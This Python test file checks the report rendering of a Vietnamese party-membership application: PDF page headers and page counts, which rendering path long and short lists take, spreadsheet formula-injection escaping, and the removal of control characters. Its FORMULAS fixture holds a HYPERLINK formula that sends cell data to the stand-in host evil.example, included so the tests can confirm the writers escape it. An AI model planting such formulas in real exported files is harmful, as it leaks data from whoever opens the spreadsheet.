"""The one report framework's drawing and writing (issue 12 item 6, issue 11 items 6-7):

- a long member list PDF has its table header once at the top of every page, as many rows
  as fit, and "Trang N/M" with the right M on every page;
- a province-size card list goes through the long-table path, a short one through xhtml2pdf;
- every spreadsheet the product writes keeps text that looks like a formula as text, and
  numbers as numbers;
- text stored with control characters (legacy rows) never breaks a PDF, XLSX or CSV.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import text
from sqlalchemy.exc import DataError
from test_reports import fonts_showing_text, pdf_path_of, pdf_text

from factories import SYSTEM, as_requester, make_member, make_tree
from webapp.cli import create_user
from webapp.cli_support import generate_password
from webapp.domain.cards import CardRequest, decide_cards, issue_cards, propose_cards
from webapp.domain.events import open_ledger
from webapp.extensions import db
from webapp.reports.document import (
    INTEGER,
    TEXT,
    Column,
    DataTable,
    Heading,
    Section,
    TableReport,
)
from webapp.reports.runs import execute_run, request_report

PASSWORD = "Report-Render-123"
# The last cell of the member list's header: once on each page, never twice.
LAST_HEADER = "Ngày, hình thức ra khỏi Đảng"
FIRST_HEADER = "Họ và tên (họ tên khai sinh)"
SURNAMES = ["Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Vũ", "Đặng", "Bùi", "Đỗ", "Hồ"]
GIVEN = ["An", "Bình", "Chi", "Dũng", "Hà", "Hường", "Lan", "Minh", "Nam", "Thắng", "Yến"]
HOME_TOWNS = [
    "Xã Đại Đồng Thành, huyện Thuận Thành, tỉnh Bắc Ninh",
    "Phường Ninh Xá, thành phố Bắc Ninh",
    "Xã Tam Sơn, huyện Từ Sơn, tỉnh Bắc Ninh",
]
# What a spreadsheet would run as a formula (OWASP): each must come back as text.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B12,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab ở đầu",
]


def flat(text_: str) -> str:
    return " ".join(text_.split())


def run_file(report: str, fmt: str, unit, parameters=None) -> tuple[bytes, object]:
    run = execute_run(
        request_report(db.session, SYSTEM, report, fmt, unit.id, parameters or {}, queue=False).id
    )
    assert run.state == "done", run.error
    return Path(run.file_path).read_bytes(), run


def member_lines(db_session, unit, count: int, prefix: str) -> list:
    """`count` members of `unit` with the attributes a real list carries (member numbers
    NNNNNN + prefix), on the rolls."""
    members = []
    for index in range(count):
        member = make_member(
            db_session,
            unit,
            birth_name=f"{SURNAMES[index % 10]} Văn {GIVEN[index % 11]}",
            member_number=f"{index:06d}{prefix}",
            card_number=f"{ord(prefix[-1]) - 60}.{index:06d}",
            home_town=HOME_TOWNS[index % 3],
            religion="Không",
            general_education="12/12",
            political_theory="Trung cấp",
            professional_level="Đại học",
            foreign_languages="Tiếng Anh B1" if index % 2 else None,
            occupation_at_admission="Học sinh, sinh viên",
            occupation="Cán bộ, công chức cấp xã" if index % 3 else "Công nhân",
        )
        open_ledger(db_session, SYSTEM, member.id)
        members.append(member)
    return members


# ---------------------------------------------------------------- the long member list


def test_long_member_list_has_one_header_per_page_and_counted_pages(app, db_session):
    """274 members (the list of issue 12): the header only at the top of each page, pages
    full of rows, every page "Trang N/M" with the right M, and nothing lost or reordered."""
    tree = make_tree(db_session)
    members = member_lines(db_session, tree["C1"], 150, "LA")
    members += member_lines(db_session, tree["C2"], 124, "LB")
    db_session.commit()

    data, run = run_file("member-list", "pdf", tree["D1"])
    assert run.row_count == 274
    assert pdf_path_of(data) == "platypus"
    pages = PdfReader(io.BytesIO(data)).pages
    per_page, numbers_seen = [], []
    for number, page in enumerate(pages, start=1):
        words = flat(page.extract_text())
        assert words.count(f"Trang {number}/{len(pages)} — Danh sách đảng viên — P.01") == 1
        assert words.count(LAST_HEADER) == 1, (number, words[:300])
        numbers = [(m.start(), m.group()) for m in re.finditer(r"\b\d{6}L[AB]\b", words)]
        assert numbers, number
        # The header is the top of the table on this page: no member row above it.
        assert (
            words.index(FIRST_HEADER) < numbers[0][0] and words.index(LAST_HEADER) < (numbers[0][0])
        )
        # A unit's title row never ends a page with its members on the next one.
        titles = [m.start() for m in re.finditer(r"P\.01\.001\.0[12] – Chi bộ", words)]
        assert not titles or titles[-1] < numbers[-1][0], number
        per_page.append(len(numbers))
        numbers_seen += [found for _, found in numbers]
    assert sorted(numbers_seen) == sorted(m.member_number for m in members)
    assert len(numbers_seen) == len(set(numbers_seen))
    assert "Tổng số: 274 đảng viên" in flat(pdf_text(data))
    # The old layout (15-row tables, each with its header) put 12 of these four-line rows
    # on most of its 23 pages and a second header in the middle of 16 of them; now a page
    # holds all that fit: 13 (9 on the first, under the heading), in 22 pages.
    assert per_page[0] >= 9 and min(per_page[1:-1]) >= 13, per_page
    assert all("DejaVu" in font for font in fonts_showing_text(data))


def test_a_line_taller_than_a_page_is_cut_across_pages(app, tmp_path):
    """Stored text long enough to make one row taller than a page (a pasted note) is cut
    across pages instead of failing the render."""
    from webapp.reports.long_table import render_long_pdf

    note = " ".join(f"đoạn{index}" for index in range(2500))
    report = TableReport(
        heading=heading(),
        tables=[
            DataTable(
                [Column("STT", INTEGER, 3), Column("Ghi chú", TEXT, 20)],
                [
                    Section("Chi bộ thôn Đông", [[1, "ngắn"]]),
                    Section("Chi bộ thôn Tây", [[2, note], [3, "cuối"]]),  # title, then tall
                ],
            )
        ],
    )
    path = tmp_path / "tall.pdf"
    render_long_pdf(report, path)
    pages = PdfReader(path).pages
    words = flat(pdf_text(path.read_bytes()))
    assert len(pages) >= 3
    assert "đoạn0 " in words and "đoạn2499" in words and "cuối" in words
    # The second unit's title sits on the page where its tall row starts, not alone.
    second = next(n for n, page in enumerate(pages) if "Chi bộ thôn Tây" in page.extract_text())
    assert "đoạn0 " in flat(pages[second].extract_text())
    assert all(f"Trang {n}/{len(pages)}" in flat(p.extract_text()) for n, p in enumerate(pages, 1))


# ---------------------------------------------------------------- card and badge lists


def test_a_province_size_card_list_goes_through_the_long_table_path(app, db_session):
    tree = make_tree(db_session)
    clerk = create_user("clerk_render", "Clerk", "P", PASSWORD)
    assert clerk
    many = [
        make_member(
            db_session,
            tree["C1" if index % 2 else "C2"],
            birth_name=f"{SURNAMES[index % 10]} Thị {GIVEN[index % 11]}",
            member_number=f"{index:06d}CP",
        )
        for index in range(420)
    ]
    db_session.commit()
    user = app.appbuilder.sm.find_user(username="clerk_render").id
    propose_cards(
        db_session, as_requester(user, None), tree["G1"].id, [CardRequest(m.id) for m in many]
    )
    data, run = run_file("card-proposals", "pdf", tree["P"])
    assert run.row_count == 420
    assert pdf_path_of(data) == "platypus"
    pages = PdfReader(io.BytesIO(data)).pages
    seen = []
    for number, page in enumerate(pages, start=1):
        words = flat(page.extract_text())
        assert f"Trang {number}/{len(pages)} — Danh sách đề nghị cấp thẻ đảng viên" in words
        rows = re.findall(r"\b\d{6}CP\b", words)
        # The header once on each page of rows (the signature may end on a page of its own).
        assert words.count("Ngày chính thức") == (1 if rows else 0), number
        seen += rows
    assert sorted(seen) == sorted(m.member_number for m in many)
    words = flat(pdf_text(data))
    assert "DANH SÁCH ĐỀ NGHỊ CẤP THẺ ĐẢNG VIÊN" in words and "T/M CẤP ỦY" in words
    assert "Tổng số: 420 đồng chí" in words
    # Another cell's three proposals are a short list, drawn by xhtml2pdf in the same layout.
    few = make_tree_member_proposals(app, db_session, tree, user)
    data, run = run_file("card-proposals", "pdf", tree["C3"])
    assert run.row_count == len(few) and pdf_path_of(data) == "xhtml2pdf"
    words = flat(pdf_text(data))
    assert "Tổng số: 3 đồng chí" in words and "Trang 1/1" in words


def make_tree_member_proposals(app, db_session, tree, user) -> list:
    members = [
        make_member(db_session, tree["C3"], birth_name=f"Quách Văn {name}")
        for name in ("Một", "Hai", "Ba")
    ]
    db_session.commit()
    propose_cards(
        db_session, as_requester(user, None), tree["C3"].id, [CardRequest(m.id) for m in members]
    )
    return members


# ---------------------------------------------------------------- spreadsheets


def heading() -> Heading:
    return Heading(
        title="Báo cáo thử",
        subtitle="Đảng bộ tỉnh (P)",
        issuing_committee="BAN TỔ CHỨC TỈNH ỦY",
        unit_name="Đảng bộ tỉnh",
        unit_code="P",
        place="Bắc Ninh",
        issued_on=date(2026, 5, 19),
    )


def formula_report(values: list) -> TableReport:
    return TableReport(
        heading=heading(),
        tables=[
            DataTable(
                [Column("Nội dung", TEXT, 30), Column("Số", INTEGER, 8)],
                [Section(None, [[value, -5] for value in values])],
            )
        ],
    )


def test_the_writers_keep_formulas_as_text_and_numbers_as_numbers(tmp_path):
    from webapp.reports.spreadsheet import write_csv, write_xlsx

    values = [*FORMULAS, "-5", "Nguyễn Văn An"]
    write_xlsx(formula_report(values), tmp_path / "f.xlsx")
    sheet = load_workbook(tmp_path / "f.xlsx").active
    rows = [row for row in sheet.iter_rows() if row[0].value in values]
    assert [row[0].value for row in rows] == values
    for first, number in rows:
        assert first.data_type == "s", first.value  # not "f": no formula
        assert first.quotePrefix == (first.value != "Nguyễn Văn An"), first.value
        assert number.value == -5 and number.data_type == "n"

    write_csv(formula_report(values), tmp_path / "f.csv")
    raw = (tmp_path / "f.csv").read_text(encoding="utf-8-sig")
    # OWASP: a leading apostrophe, the field quoted, its quotes doubled; numbers bare.
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&B12,""Bấm vào đây"")",-5' in raw
    assert '"\'-5",-5' in raw and '"Nguyễn Văn An",-5' in raw
    fields = list(csv.reader(io.StringIO(raw)))
    assert [row[0] for row in fields[1:]] == [*(f"'{value}" for value in values[:-1]), values[-1]]


def test_member_list_and_card_printer_files_keep_formulas_as_text(app, db_session):
    """Members named like formulas, through the report files a user downloads."""
    tree = make_tree(db_session)
    members = [
        make_member(db_session, tree["C1"], birth_name=name, member_number=f"{i:06d}FX")
        for i, name in enumerate(FORMULAS)
    ]
    for member in members:
        open_ledger(db_session, SYSTEM, member.id)
    db_session.commit()

    data, _ = run_file("member-list", "xlsx", tree["D1"])
    sheet = load_workbook(io.BytesIO(data)).active
    names = {row[1].value: row[1] for row in sheet.iter_rows() if isinstance(row[0].value, int)}
    assert set(names) == set(FORMULAS)
    for cell in names.values():
        assert cell.data_type == "s" and cell.quotePrefix, cell.value

    cards = issue_all(app, db_session, tree, members)
    data, run = run_file("card-printer-data", "xlsx", tree["D1"])
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows())
    assert rows[0][0].value == "Số thẻ" and run.row_count == len(cards)
    printed = {row[1].value: row[1] for row in rows[1:]}
    assert set(printed) == set(FORMULAS)
    assert all(cell.data_type == "s" for cell in printed.values())

    data, _ = run_file("card-printer-data", "csv", tree["D1"])
    fields = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert {row["Họ và tên"] for row in fields} == {f"'{name}" for name in FORMULAS}
    assert {row["Số thẻ"] for row in fields} == {card.number for card in cards}


def issue_all(app, db_session, tree, members) -> list:
    create_user("clerk_fx", "Clerk", "P", PASSWORD)
    create_user("manager_fx", "Manager", "P", PASSWORD)
    find = app.appbuilder.sm.find_user
    batch = propose_cards(
        db_session,
        as_requester(find(username="clerk_fx").id, None),
        tree["G1"].id,
        [CardRequest(m.id) for m in members],
    )
    ids = [p.id for p in batch.proposals]
    manager = as_requester(find(username="manager_fx").id, None)
    decide_cards(db_session, manager, ids, True)
    return issue_cards(db_session, manager, ids, prefix="27")


def test_cli_csv_lists_keep_formulas_as_text(app, db_session, tmp_path):
    """`cards pending` and `badges eligible` write through the same escaping writer."""
    tree = make_tree(db_session)
    waiting = make_member(db_session, tree["C1"], birth_name=FORMULAS[0])
    veteran = make_member(
        db_session,
        tree["C1"],
        birth_name="@Cựu chiến binh",
        admitted_on=date(1996, 5, 19),
        official_on=date(1997, 5, 19),
        card_number="27.000999",
    )
    for member in (waiting, veteran):
        open_ledger(db_session, SYSTEM, member.id)
    db_session.commit()
    runner = app.test_cli_runner()
    pending = tmp_path / "pending.csv"
    result = runner.invoke(args=["cards", "pending", "--unit", "P.01", "-o", str(pending)])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(pending.open(encoding="utf-8-sig")))
    assert {row["name"] for row in rows} >= {f"'{FORMULAS[0]}"}
    eligible = tmp_path / "eligible.csv"
    result = runner.invoke(
        args=["badges", "eligible", "--occasion", "2026-05-19", "--unit", "P", "-o", str(eligible)]
    )
    assert result.exit_code == 0, result.output
    raw = eligible.read_text(encoding="utf-8-sig")
    assert '"\'@Cựu chiến binh"' in raw
    row = next(csv.DictReader(io.StringIO(raw)))
    assert row["name"] == "'@Cựu chiến binh" and row["milestone"] == "30"
    assert re.search(r",30,", raw)  # the milestone is written as a number, not quoted


def test_generated_passwords_never_look_like_formulas():
    """The user import prints its passwords as CSV: an escaped one would be misread."""
    from webapp.reports.spreadsheet import starts_like_formula

    assert not any(starts_like_formula(generate_password()) for _ in range(3000))


# ---------------------------------------------------------------- control characters

CONTROL_NAME = "Nguyễn\x01 Văn\x0bBa\x1f\x08\x7f Mươi"
CLEAN_NAME = "Nguyễn Văn\nBa Mươi"


def test_stored_control_characters_never_break_a_report_file(app, db_session, monkeypatch):
    """A member and a cell whose names hold C0 control characters, written straight into the
    database as legacy rows are: every member list of that cell and of each unit above it,
    in XLSX and in both PDF paths, and the card printer files, are produced and readable."""
    import webapp.reports.render as render

    tree = make_tree(db_session)
    member = make_member(db_session, tree["C1"], birth_name="Tạm Thời")
    open_ledger(db_session, SYSTEM, member.id)
    db_session.commit()
    db_session.execute(
        text("UPDATE member SET birth_name = :name WHERE id = :id"),
        {"name": CONTROL_NAME, "id": member.id},
    )
    db_session.execute(
        text("UPDATE unit SET name = :name WHERE id = :id"),
        {"name": "Chi bộ\x02 thôn\x0c Đông", "id": tree["C1"].id},
    )
    db_session.commit()
    db_session.expire_all()
    for code in ("C1", "G1", "D1", "P"):
        data, _ = run_file("member-list", "xlsx", tree[code])
        rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
        listed = [row for row in rows if isinstance(row[0], int)]
        assert [row[1] for row in listed] == [CLEAN_NAME], code
        assert any(row[0] == "P.01.001.01 – Chi bộ thôn\n Đông" for row in rows), code
        for cells in ("short", "long"):
            monkeypatch.setattr(render, "LONG_REPORT_CELLS", 500 if cells == "short" else 0)
            data, _ = run_file("member-list", "pdf", tree[code])
            assert pdf_path_of(data) == ("xhtml2pdf" if cells == "short" else "platypus")
            words = pdf_text(data)
            assert "Nguyễn Văn" in words and "Ba Mươi" in words, (code, cells)
            assert not re.search("[\x00-\x08\x0b-\x1f\x7f]", words), (code, cells)
    cards = issue_all(app, db_session, tree, [member])
    data, run = run_file("card-printer-data", "xlsx", tree["P"])
    rows = list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert run.row_count == len(cards) == 1 and rows[1][1] == CLEAN_NAME
    data, run = run_file("card-printer-data", "csv", tree["P"])
    assert next(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))["Họ và tên"] == CLEAN_NAME


def test_nul_cannot_be_stored_so_the_writers_are_tested_with_it(app, db_session, tmp_path):
    """PostgreSQL refuses NUL in text, so no stored row holds one; text from elsewhere (an
    SQLite instance, a file) may: the writers take it out like the other controls."""
    from webapp.reports.long_table import render_long_pdf
    from webapp.reports.pdf import render_table_pdf
    from webapp.reports.spreadsheet import write_csv, write_xlsx

    tree = make_tree(db_session)
    member = make_member(db_session, tree["C1"])
    db_session.commit()
    with pytest.raises(DataError):
        db_session.execute(
            text("UPDATE member SET birth_name = :name WHERE id = :id"),
            {"name": "Nul\x00", "id": member.id},
        )
    db_session.rollback()
    values = ["Lê\x00 Thị\x0b\x00Nul", "\x00=1+1"]
    write_xlsx(formula_report(values), tmp_path / "nul.xlsx")
    rows = list(load_workbook(tmp_path / "nul.xlsx").active.iter_rows())
    cells = [row[0] for row in rows if row[0].value in ("Lê Thị\nNul", "=1+1")]
    assert len(cells) == 2 and all(cell.data_type == "s" for cell in cells)
    write_csv(formula_report(values), tmp_path / "nul.csv")
    raw = (tmp_path / "nul.csv").read_text(encoding="utf-8-sig")
    assert "\x00" not in raw and '"\'=1+1"' in raw
    for render in (render_table_pdf, render_long_pdf):
        path = tmp_path / f"nul-{render.__name__}.pdf"
        render(formula_report(values), path)
        assert "Lê Thị" in pdf_text(path.read_bytes()), render.__name__
